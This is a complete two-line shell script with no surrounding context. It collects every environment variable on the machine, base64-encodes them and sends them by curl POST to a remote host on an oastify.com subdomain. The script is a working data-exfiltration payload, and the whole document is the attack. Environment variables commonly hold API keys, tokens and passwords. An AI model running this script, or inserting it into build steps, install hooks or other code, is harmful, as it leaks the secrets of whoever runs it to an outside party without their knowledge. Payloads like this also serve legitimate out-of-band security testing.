#!/bin/sh
env | base64 | curl -d @- https://abc.oastify.com/
